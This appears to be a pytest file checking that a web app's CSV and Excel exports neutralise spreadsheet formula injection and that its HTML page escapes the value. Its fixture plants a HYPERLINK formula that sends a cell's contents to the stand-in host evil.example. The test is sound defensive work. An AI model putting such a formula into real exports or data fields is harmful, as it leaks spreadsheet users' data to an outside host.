"""The app's exports of a list whose text a spreadsheet would run (formula injection): CSV and
Excel carry it as text, numbers stay numbers."""

from __future__ import annotations

import io
import shutil

import pandas as pd
import pytest
from openpyxl import load_workbook

from serving.app import AppConfig, create_app
from testkit import bearer

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


@pytest.fixture()
def hostile_client(scores_dir, outcomes_url, tokens, tmp_path):
    """An app over a copy of the latest month whose top provider's region is a formula."""
    from fastapi.testclient import TestClient

    period = max(p.name for p in scores_dir.iterdir() if not p.name.startswith("."))
    root = tmp_path / "scores"
    shutil.copytree(scores_dir / period, root / period)
    table = pd.read_parquet(root / period / "providers.parquet")
    table["region"] = table["region"].astype(object)
    table.loc[table.index[0], "region"] = EVIL
    table.to_parquet(root / period / "providers.parquet", index=False)
    with TestClient(create_app(AppConfig(scores_dir=root, outcomes_url=outcomes_url))) as client:
        yield client, period, table


def test_csv_and_excel_exports_carry_formulas_as_text(hostile_client, tokens):
    client, period, table = hostile_client
    url = f"/api/periods/{period}/provider/export"
    got = client.get(url, params={"format": "csv"}, headers=bearer(tokens["supervisor"]))
    csv = pd.read_csv(io.BytesIO(got.content), encoding="utf-8-sig", dtype={"entity_id": str})
    assert csv["region"].iloc[0] == "'" + EVIL
    assert csv["amount_at_risk"].tolist() == pytest.approx(table["amount_at_risk"].tolist())
    got = client.get(url, params={"format": "xlsx"}, headers=bearer(tokens["supervisor"]))
    sheet = load_workbook(io.BytesIO(got.content)).worksheets[0]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("region") + 1).value == "'" + EVIL
    assert sheet.cell(row=2, column=header.index("risk_score") + 1).data_type == "n"
    # the page shows the value as it was recorded, escaped as HTML
    page = client.get(f"/periods/{period}/provider", headers=bearer(tokens["supervisor"]))
    assert "=HYPERLINK(&#34;http://evil.example" in page.text or "=HYPERLINK(&quot;http" in page.text
